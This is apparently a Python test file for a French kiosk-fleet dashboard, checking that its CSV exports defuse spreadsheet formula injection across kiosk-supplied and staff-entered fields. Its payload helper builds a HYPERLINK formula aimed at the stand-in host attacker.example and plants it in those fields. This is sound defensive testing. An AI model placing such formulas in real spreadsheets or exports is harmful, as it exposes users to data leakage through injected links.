"""CSV injection (issue 15, OWASP): every CSV export neutralises text cells starting with = + - @ tab or CR
(a leading single quote, the cell between double quotes), whether the text came from a kiosk (its version
string) or from the staff (donor, certificate, address, opening hours, commune name). Numbers the server
holds as numbers (a temperature of -5) stay bare numbers. Real app, SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import itertools
import re
import time

from dashboard_helpers import LUCHON, checkin, csrf_token, health, inventory

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
FORMULA_START = re.compile(r"^[=+\-@\t\r]")
BARE_NUMBER = re.compile(r"-?\d+(\.\d+)?")
EXPORTS = ("/tableau/export/parc.csv", "/tableau/export/materiel.csv", "/tableau/export/communes.csv",
           "/tableau/export/lieux-mediation-numerique.csv")
PAGES_WITH_CSV_LINKS = ("/tableau/", "/tableau/usage", "/tableau/rapport", "/tableau/communes", "/tableau/materiel",
                        "/tableau/machines/LUCH-001")


def payload(prefix: str, field: str) -> str:
    return f'{prefix}HYPERLINK("http://attacker.example/{field}";"ok"),1'


def every_export(client) -> dict[str, str]:
    """The fixed exports and every CSV a dashboard page links to."""
    paths = set(EXPORTS)
    for page in PAGES_WITH_CSV_LINKS:
        html = client.get(page).get_data(as_text=True)
        paths.update(link.replace("&amp;", "&") for link in re.findall(r'href="([^"]+\.csv[^"]*)"', html))
    texts = {}
    for path in sorted(paths):
        response = client.get(path)
        assert response.status_code == 200 and response.mimetype == "text/csv", path
        texts[path] = response.get_data().decode("utf-8")
    return texts


def cells(path: str, text: str) -> list[list[str]]:
    if text.startswith("\ufeff"):
        return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    return list(csv.reader(io.StringIO(text)))      # the national standard: commas, no byte-order mark


def quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def assert_no_live_formula(exports: dict[str, str]) -> None:
    for path, text in exports.items():
        for row in cells(path, text):
            for cell in row:
                if FORMULA_START.match(cell):
                    assert BARE_NUMBER.fullmatch(cell), (path, cell)


def test_every_export_neutralises_each_formula_prefix_from_kiosks_and_staff(fresh):
    from provisioning.fleet.enrolment import create_enrolment_code
    engine = fresh.app.extensions["fleet_engine"]
    staff = fresh.client("staff")
    seq = itertools.count(100)
    for prefix in PREFIXES:
        version, donor, certificate, address, commune = (payload(prefix, field) for field in (
            "version", "donor", "certificate", "address", "commune"))
        # A kiosk sends its version; the staff enter a donor, a certificate, an address and hours...
        checkin(fresh.app, fresh.tokens["LUCH-001"], [inventory(next(seq), "CZC0000001", version=version)])
        token = csrf_token(staff.get("/tableau/machines/LUCH-001").get_data(as_text=True))
        staff.post("/tableau/machines/LUCH-001/cycle", data={
            "csrf_token": token, "lifecycle_state": "deployed", "donor": donor, "erasure_certificate": certificate})
        hours = "-1-1" if prefix == "-" else "Mo 09:00-12:00"
        answer = staff.post(f"/tableau/communes/{LUCHON}", data={
            "csrf_token": token, "postal_code": "31110", "address": address, "siret": "21310042500012",
            "opening_hours": hours})
        assert answer.status_code == 302, (repr(prefix), answer.get_data(as_text=True)[:300])
        # ...and the commune's name (given with `fleet enrolment-code --name`).
        create_enrolment_code(engine, LUCHON, time.time(), 30, name=commune)

        exports = every_export(staff)
        assert_no_live_formula(exports)
        stored_address = address.strip()        # the place form trims spaces, tabs and line breaks
        expected = {
            "/tableau/export/parc.csv": [version, commune],
            "/tableau/export/materiel.csv": [donor, certificate],
            "/tableau/export/communes.csv": [commune, stored_address] + ([hours] if prefix == "-" else []),
            "/tableau/export/lieux-mediation-numerique.csv": [commune, stored_address]
            + ([hours] if prefix == "-" else []),
        }
        for path, values in expected.items():
            found = {cell for row in cells(path, exports[path]) for cell in row}
            for value in values:
                neutral = "'" + value if FORMULA_START.match(value) else value
                assert neutral in found, (repr(prefix), path, value)
                assert quoted(neutral) in exports[path], (repr(prefix), path, value)
                assert value not in found or not FORMULA_START.match(value), (repr(prefix), path, value)
        # The usage figures name the commune too.
        by_commune = next(text for path, text in exports.items() if "sessions-par-commune" in path)
        assert quoted("'" + commune) in by_commune, repr(prefix)


def test_real_negative_numbers_stay_numbers(fresh):
    """A temperature of -5 °C is a number the server validated and stores as a number: written bare,
    never prefixed (the spreadsheet must still add it up). Text that merely looks like one is text."""
    checkin(fresh.app, fresh.tokens["LUCH-001"], [health(90, time.time() - 30, temperature=-5.0),
                                                  inventory(91, "CZC0000002", version="-1")])
    client = fresh.client("staff")
    text = client.get("/tableau/export/parc.csv").get_data().decode("utf-8")
    line = next(line for line in text.splitlines() if line.startswith('"LUCH-001"'))
    assert ";-5;" in line and '"\'-1"' in line  # a number (French spreadsheet: a decimal comma)


def test_the_csv_writer_is_the_one_place_and_defuses_each_prefix():
    from provisioning.fleet.exports.csvfile import write_csv
    text = write_csv(["a", "b", "c"], [[f"{prefix}1+1", -2.5, None] for prefix in PREFIXES] + [["ok", 3, "x;y"]],
                     bom=False)
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    assert [row[0] for row in rows[:-1]] == [f"'{prefix}1+1" for prefix in PREFIXES]
    assert all(row[1] == "-2,5" for row in rows[:-1]) and rows[-1] == ["ok", "3", "x;y"]  # a French decimal
    assert text.splitlines()[0] == '"a";"b";"c"' and '"\'=1+1";-2,5;""' in text
